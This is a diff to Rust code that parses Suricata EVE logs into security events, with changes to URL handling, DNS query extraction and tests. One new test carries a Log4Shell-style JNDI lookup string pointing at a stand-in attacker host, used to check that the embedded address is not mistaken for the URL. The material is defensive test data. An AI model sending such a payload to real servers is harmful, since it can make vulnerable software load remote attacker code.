@@ -107,7 +107,10 @@ fn alert(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), M
     event.set(Field::NetworkRole, ids_rule::role(&[&title, &class, &tags[0], &tags[1]]));
     event.set(Field::Detail, class.clone());
     http(&mut event, it);
-    event.set(Field::Body, text(it, "payload_printable").map(wire::cap).or_else(|| request_body(it)).or_else(|| base64(it.get("payload"))));
+    event.set(
+        Field::Body,
+        text(it, "payload_printable").map(wire::cap).or_else(|| request_body(it)).or_else(|| base64(it.get("payload"))),
+    );
     out.emit(&event);
     Ok(())
 }
@@ -115,9 +118,7 @@ fn alert(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), M
 /// Every text of a list, or the one text, joined by commas.
 fn all(value: Option<&Value>) -> String {
     match value {
-        Some(Value::Array(items)) => {
-            items.iter().take(MAX_QUERIES).filter_map(scalar).collect::<Vec<_>>().join(",")
-        }
+        Some(Value::Array(items)) => items.iter().take(MAX_QUERIES).filter_map(scalar).collect::<Vec<_>>().join(","),
         Some(other) => scalar(other).unwrap_or_default().into_owned(),
         None => String::new(),
     }
@@ -143,7 +144,9 @@ fn http<'a>(event: &mut Event<'a>, it: &'a Value) {
 fn url(it: &Value) -> Option<String> {
     let http = it.get("http")?;
     let path = text(http, "url")?;
-    if path.contains("://") {
+    // A proxy's request; an exploit may hold another address further in.
+    if ["http://", "https://"].iter().any(|it| path.get(..it.len()).is_some_and(|front| front.eq_ignore_ascii_case(it)))
+    {
         return Some(wire::cap(path).into_owned());
     }
     let Some(host) = text(http, "hostname") else { return Some(wire::cap(path).into_owned()) };
@@ -175,20 +178,17 @@ fn dns(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), Mal
     if let (true, Some(Value::Object(grouped))) = (answers.is_empty(), dns.get("grouped")) {
         answers.extend(grouped.values().take(8).map(|it| all(Some(it))));
     }
-    let mut names: Vec<String> = Vec::new();
-    match dns.get("queries") {
-        Some(Value::Array(items)) => {
-            names.extend(items.iter().take(MAX_QUERIES).filter_map(|it| Some(text(it, "rrname")?.into_owned())));
-        }
-        _ => names.extend(text(dns, "rrname").map(Into::into)),
-    }
-    // A version 1 answer of another type (an SOA of the zone) still says what was asked.
-    for name in &names {
+    let question = |it: &Value| Some((text(it, "rrname")?.into_owned(), text(it, "rrtype").map(|it| it.into_owned())));
+    let questions: Vec<_> = match dns.get("queries") {
+        Some(Value::Array(items)) => items.iter().take(MAX_QUERIES).filter_map(question).collect(),
+        _ => question(dns).into_iter().collect(),
+    };
+    for (name, kind) in questions {
         let mut event = start(EventClass::Network, Activity::Query, it, context)?;
-        event.set(Field::Query, name.trim_end_matches('.'));
-        event.set(Field::Answers, answers.join(","));
+        event.set(Field::Query, name.trim_end_matches('.').to_owned());
+        event.set(Field::Answers, wire::cap(answers.join(",")));
         event.set(Field::State, text(dns, "rcode"));
-        event.set(Field::Detail, any(dns, &["rrtype", "type"]));
+        event.set(Field::Detail, kind);
         out.emit(&event);
     }
     Ok(())
@@ -215,7 +215,9 @@ mod tests {
     use super::*;
 
     fn check(record: &str, expect: &[&str]) {
-        let log = format!("{{\"timestamp\":\"2024-05-01T10:00:00.000001+0200\",\"flow_id\":7,\"src_ip\":\"192.0.2.1\",\"src_port\":4000,\"dest_ip\":\"198.51.100.2\",\"dest_port\":80,\"proto\":\"TCP\",{record}}}");
+        let log = format!(
+            "{{\"timestamp\":\"2024-05-01T10:00:00.000001+0200\",\"flow_id\":7,\"src_ip\":\"192.0.2.1\",\"src_port\":4000,\"dest_ip\":\"198.51.100.2\",\"dest_port\":80,\"proto\":\"TCP\",{record}}}"
+        );
         assert!((SURICATA_EVE.recognizes)(&serde_json::from_str(&log).unwrap()), "{log}");
         let got = read_all(&SURICATA_EVE, log.as_bytes());
         assert_eq!(got.len(), expect.len(), "{got:#?}");
@@ -226,10 +228,34 @@ mod tests {
 
     #[test]
     fn dns_of_every_version() {
-        check(r#""event_type":"dns","dns":{"type":"answer","rrname":"c2.test.","rrtype":"A","rdata":"192.0.2.9"}"#, &[r#"query_hostname="c2.test" answers="192.0.2.9""#]);
-        check(r#""event_type":"dns","dns":{"version":2,"type":"answer","rrname":"c2.test","answers":[{"rdata":"192.0.2.9"},{"rdata":"192.0.2.10"}]}"#, &[r#"answers="192.0.2.9,192.0.2.10""#]);
-        check(r#""event_type":"dns","dns":{"version":2,"type":"answer","rrname":"c2.test","grouped":{"A":["192.0.2.9"]}}"#, &[r#"answers="192.0.2.9""#]);
-        check(r#""event_type":"dns","dns":{"version":3,"type":"request","queries":[{"rrname":"a.test"},{"rrname":"b.test"}]}"#, &[r#"query_hostname="a.test""#, r#"query_hostname="b.test""#]);
+        check(
+            r#""event_type":"dns","dns":{"type":"answer","rrname":"c2.test.","rrtype":"A","rdata":"192.0.2.9"}"#,
+            &[r#"query_hostname="c2.test" answers="192.0.2.9""#],
+        );
+        check(
+            r#""event_type":"dns","dns":{"version":2,"type":"answer","rrname":"c2.test","answers":[{"rdata":"192.0.2.9"},{"rdata":"192.0.2.10"}]}"#,
+            &[r#"answers="192.0.2.9,192.0.2.10""#],
+        );
+        check(
+            r#""event_type":"dns","dns":{"version":2,"type":"answer","rrname":"c2.test","grouped":{"A":["192.0.2.9"]}}"#,
+            &[r#"answers="192.0.2.9""#],
+        );
+        check(
+            r#""event_type":"dns","dns":{"version":3,"type":"request","queries":[{"rrname":"a.test"},{"rrname":"b.test"}]}"#,
+            &[r#"query_hostname="a.test""#, r#"query_hostname="b.test""#],
+        );
+    }
+
+    #[test]
+    fn an_address_inside_an_address_is_not_the_address() {
+        check(
+            r#""event_type":"http","http":{"hostname":"a.test","url":"/?x=${jndi:ldap://evil.example/a}"}"#,
+            &[r#"url="http://a.test/?x=${jndi:ldap://evil.example/a}""#],
+        );
+        check(
+            r#""event_type":"http","http":{"hostname":"a.test","url":"http://b.test/"}"#,
+            &[r#"url="http://b.test/""#],
+        );
     }
 
     #[test]
